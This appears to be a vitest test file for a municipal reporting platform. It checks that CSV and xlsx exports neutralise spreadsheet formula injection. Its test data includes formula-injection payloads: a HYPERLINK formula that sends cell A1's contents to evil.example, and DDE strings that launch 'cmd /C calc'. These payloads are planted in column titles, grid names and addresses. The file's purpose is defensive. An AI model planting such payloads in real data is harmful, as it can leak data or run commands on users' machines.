// CSV formula injection. A department's column title "=HYPERLINK(…)" reached a community's CSV
// export as it was typed, so the spreadsheet that opened it ran it. Every cell of every CSV the
// platform writes that starts with =, +, -, @, a tab or a carriage return is now prefixed with an
// apostrophe (OWASP), plain numbers excepted. In xlsx, text is written as text (inline or shared
// strings), never as a formula: checked in the files themselves.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import unzipper from 'unzipper';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../src/platform/csv.js';
import { systemContext } from '../../src/platform/context.js';
import { toCsv, toXlsx, type OutputInput } from '../../src/modules/reports/outputs.js';
import { fillForm } from '../../src/modules/reports/forms.js';
import type { ReportResult } from '../../src/modules/reports/engine.js';
import { loginAs, makeGrid, makeSubtree, testApp, type Subtree, type TestApp } from '../support/app.js';
import { xlsx } from '../exchange/helpers.js';

const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1'];

/** The fields of a CSV text (RFC 4180, as the platform writes it). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let f = '';
  let q = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (q) {
      if (c === '"' && text[i + 1] === '"') {
        f += '"';
        i++;
      }
      else if (c === '"') q = false;
      else f += c;
    } else if (c === '"') q = true;
    else if (c === ',') {
      row.push(f);
      f = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(f);
      rows.push(row);
      row = [];
      f = '';
      i++;
    }
    else f += c;
  }
  if (f || row.length) {
    row.push(f);
    rows.push(row);
  }
  return rows;
}

const dangerous = (s: string) => /^[=+\-@\t\r]/.test(s) && !/^[+-]?\d+(\.\d+)?%?$/.test(s);

/** Every <f> (formula) element in the worksheets of an xlsx file, and all its text. */
async function sheetXml(buf: Buffer): Promise<{ formulas: number; text: string }> {
  const file = join(mkdtempSync(join(tmpdir(), 'qc-xlsx-')), 'f.xlsx');
  writeFileSync(file, buf);
  const dir = await unzipper.Open.file(file);
  let formulas = 0;
  let text = '';
  for (const e of dir.files) {
    if (!/^xl\/(worksheets\/sheet\d+|sharedStrings)\.xml$/.test(e.path)) continue;
    const xml = (await e.buffer()).toString('utf8');
    formulas += (xml.match(/<f[\s>]/g) ?? []).length;
    text += xml;
  }
  return { formulas, text };
}

function resultWith(titles: string[], headings: string[], values: (number | string)[]): OutputInput {
  const result = {
    template: { id: 1, code: 't', version: 1, title: '表', department: '部门', legalBasis: '依据' }, unit: { id: 1, name: '单位', level: 'community', code: '1', trail: ['市', '单位'] },
    period: { key: '2026-10', start: '2026-10-01', end: '2026-10-31', labelZh: '2026年10月', labelEn: '2026-10' }, referenceDate: '2026-10-31',
    dims: [{ by: 'tree', title: '网格' }],
    columns: titles.map((title, i) => ({ key: `c${i}`, title, kind: i === titles.length - 1 ? 'manual' : 'count', computed: i !== titles.length - 1, drillable: false })),
    rows: headings.map((h, i) => ({ key: `r${i}`, keys: [`r${i}`], headings: [h], level: 'detail' as const, values: Object.fromEntries(titles.map((_, j) => [`c${j}`, values[(i + j) % values.length]!])), n: {} })),
    manualFields: [], computedAt: new Date().toISOString(), computeMs: 0,
  } as unknown as ReportResult;
  return { result };
}

describe('the CSV writer', () => {
  it('prefixes every cell that a spreadsheet would run, and leaves numbers alone', () => {
    for (const p of PAYLOADS) expect(csvCell(p).replace(/^"/, '').startsWith("'")).toBe(true);
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('+3.5')).toBe('+3.5');
    expect(csvCell('12%')).toBe('12%');
    expect(csvCell('<5')).toBe('<5');
    expect(csvCell('a,b')).toBe('"a,b"');
    const csv = toCsv(resultWith(PAYLOADS, PAYLOADS, [...PAYLOADS, -3, 12]));
    const cells = parseCsv(csv.replace(/^\ufeff/, '')).flat();
    expect(cells.filter(dangerous)).toEqual([]);
    for (const p of PAYLOADS) expect(cells).toContain(`'${p}`);
    expect(cells).toContain('-3');
  });

  it('writes the same text as text in xlsx, never as a formula', async () => {
    const input = resultWith(PAYLOADS, PAYLOADS, PAYLOADS);
    const out = await sheetXml(await toXlsx(input));
    expect(out.formulas).toBe(0);
    expect(out.text).toContain('HYPERLINK');
    // The department's own form: its own formulas stay, the values written into it are text.
    const form = await xlsx((wb) => {
      const ws = wb.addWorksheet('表');
      ws.getCell('A1').value = '填报单位';
      ws.getCell('C1').value = { formula: '1+1', result: 2 };
    });
    const filled = await fillForm(form, { cells: { B1: { kind: 'manual', key: 'note' }, B2: { kind: 'value', row: 'r0', column: 'c0' } } } as never, { ...input, manual: { report: { note: PAYLOADS[0]! }, rows: {} } });
    const f = await sheetXml(filled);
    expect(f.formulas).toBe(1); // C1, the form's own
    expect(f.text).toContain('HYPERLINK');
  });
});

describe('exports through the API', () => {
  let t: TestApp;
  let a: Subtree;
  let worker: string;
  let street: string;
  let subId: number;

  beforeAll(async () => {
    t = await testApp();
    a = await makeSubtree(t);
    // A grid named by a street officer as a formula.
    await makeGrid(t, a.community, '=cmd|\' /C calc\'!A0');
    const civil = await t.built.modules.tree.service.createDepartment({ code: 'civil_affairs', name: '太原市民政局', shortName: '民政', nodeId: a.city.id }, systemContext('test'));
    await t.built.modules.registry.service.grants.create(systemContext('test'), { departmentId: civil.id, recordKind: 'resident', nodeId: a.city.id, readFields: ['name', 'sex'], purpose: '人口统计' });
    const dept = (await loginAs(t, { role: 'department_staff', node: a.city, departmentId: civil.id })).token;
    const reviewer = (await loginAs(t, { role: 'reviewer', node: a.city })).token;
    worker = (await loginAs(t, { role: 'community_worker', node: a.community })).token;
    street = (await loginAs(t, { role: 'street_staff', node: a.street })).token;
    // The department's column title is the payload; the community types another into a row item.
    const d = await t.call('POST', '/api/reports/templates', {
      token: dept,
      body: {
        title: '人口简表', legalBasis: '测试依据文件', purpose: '按网格掌握人数', cadence: 'monthly', deadlineDays: 7, submitLevel: 'community', handMinutesBefore: 30,
        definition: {
          sources: [{ key: 'r', source: 'resident', filters: [] }], rows: [{ by: 'tree', level: 'grid' }], totals: true,
          columns: [{ key: 'people', title: '=HYPERLINK("http://evil.example","人数")', unit: '人', measure: { kind: 'count' } }],
          manualFields: [{ key: 'note', title: '@SUM(1+1)', type: 'text', scope: 'row', required: false }],
        },
      },
    });
    expect(d.statusCode, d.body).toBe(201);
    expect((await t.call('POST', `/api/reports/templates/${d.json().id}/submit`, { token: dept })).statusCode).toBe(200);
    const ok = await t.call('POST', `/api/reports/templates/${d.json().id}/review`, { token: reviewer, body: { decision: 'approve', note: '同意' } });
    expect(ok.statusCode, ok.body).toBe(200);
    const due = (await t.call('GET', '/api/reports/due', { token: worker })).json().items.find((x: { templateCode: string }) => x.templateCode === d.json().code);
    const s = await t.call('POST', `/api/reports/due/${due.id}/submit`, { token: worker, body: { manual: { report: {}, rows: { [String(a.grid.id)]: { note: '-1+cmd|\' /C calc\'!A0' } } } } });
    expect(s.statusCode, s.body).toBe(201);
    subId = s.json().submission.id;
  });
  afterAll(() => t.close());

  it('escapes the department’s heading, the grid’s name and the typed item in the CSV', async () => {
    for (const token of [worker, street]) {
      const csv = await t.call('GET', `/api/reports/submissions/${subId}/export?format=csv`, { token });
      expect(csv.statusCode).toBe(200);
      const cells = parseCsv(csv.body.replace(/^\ufeff/, '')).flat();
      expect(cells.filter(dangerous)).toEqual([]);
      expect(cells.some((c) => c.startsWith('\'=HYPERLINK'))).toBe(true);
      expect(cells.some((c) => c.startsWith("'=cmd"))).toBe(true);
      if (token === worker) expect(cells.some((c) => c.startsWith("'-1+cmd"))).toBe(true);
    }
  });

  it('writes them as text in the Excel download', async () => {
    const file = await t.call('GET', `/api/reports/submissions/${subId}/export?format=xlsx`, { token: worker });
    expect(file.statusCode).toBe(200);
    const x = await sheetXml(file.rawPayload);
    expect(x.formulas).toBe(0);
    expect(x.text).toContain('HYPERLINK');
  });

  it('writes a resident’s typed address as text in the register export', async () => {
    const r = await t.call('POST', '/api/residents', { token: worker, body: { gridId: a.grid.id, name: '公式居民', address: '=HYPERLINK("http://evil.example","地址")' } });
    expect(r.statusCode, r.body).toBe(201);
    const file = await t.call('GET', '/api/exports/residents', { token: worker });
    expect(file.statusCode, file.body.slice(0, 200)).toBe(200);
    const x = await sheetXml(file.rawPayload);
    expect(x.formulas).toBe(0);
    expect(x.text).toContain('HYPERLINK');
  });
});
